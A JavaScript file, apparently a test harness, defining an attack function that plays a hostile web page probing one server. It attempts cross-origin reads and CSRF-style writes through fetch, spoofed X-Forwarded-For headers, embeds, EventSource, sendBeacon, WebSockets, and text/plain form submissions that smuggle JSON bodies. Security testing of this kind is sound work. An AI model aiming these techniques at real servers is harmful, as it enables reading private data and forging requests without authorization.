// All that a hostile page tries at one server: attack({base, reads, writes, socket}) returns what it could read.

const PATIENCE_MS = 2000;

const within = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, PATIENCE_MS, ""))]);

const read = async (url, init) => {
  try {
    const answer = await fetch(url, init);
    return answer.type !== "opaque" && answer.ok ? await answer.text() : "";
  } catch {
    return "";
  }
};

const streamed = (url) =>
  new Promise((done) => {
    const source = new EventSource(url);
    const end = (text) => (source.close(), done(text));
    source.onopen = () => end("the stream opened");
    source.onerror = () => end("");
  });

const embedded = (kind, url) =>
  new Promise((done) => {
    const element = document.createElement(kind);
    element.onerror = () => done("");
    element.onload = () => {
      try {
        done(element.contentDocument?.body.innerText.includes("misdirected_request") ? "" : (element.contentDocument?.body.innerText ?? ""));
      } catch {
        done("");
      }
    };
    element.src = url;
    document.body.append(element);
  });

const submitted = (url, enctype, body) =>
  new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = `frame${Math.random()}`;
    const form = document.createElement("form");
    Object.assign(form, { action: url, method: "post", enctype, target: frame.name });
    const input = document.createElement("input");
    Object.assign(input, { name: body.slice(0, -1), value: "}" });
    form.append(input);
    document.body.append(frame, form);
    frame.onload = () => done("");
    form.submit();
  });

const socketed = (url) =>
  new Promise((done) => {
    const socket = new WebSocket(url);
    socket.onopen = () => done("the socket opened");
    socket.onerror = () => done("");
  });

window.attack = async ({ base, reads, writes, socket }) => {
  const tries = [];
  for (const path of reads) {
    const url = base + path;
    tries.push(read(url), read(url, { mode: "no-cors" }), read(url, { headers: { "X-Forwarded-For": "127.0.0.1" } }));
    tries.push(streamed(url), embedded("img", url), embedded("script", url), embedded("iframe", url));
  }
  for (const [path, body, method = "POST"] of writes) {
    const url = base + path;
    if (method === "POST") {
      tries.push(read(url, { method, mode: "no-cors", body }), read(url, { method, mode: "no-cors" }));
      tries.push(read(url, { method, mode: "no-cors", body: new TextEncoder().encode(body) }));
      tries.push(submitted(url, "text/plain", body), submitted(url, "application/x-www-form-urlencoded", body));
      navigator.sendBeacon(url, body);
    }
    tries.push(read(url, { method, body, headers: { "Content-Type": "application/json" } }));
    tries.push(read(url, { method, body, headers: { "Content-Type": "application/json", "X-Forwarded-Host": location.host } }));
  }
  if (socket) tries.push(socketed(new URL(base + socket, location.href).href.replace("http", "ws")));
  return (await Promise.all(tries.map(within))).filter(Boolean);
};
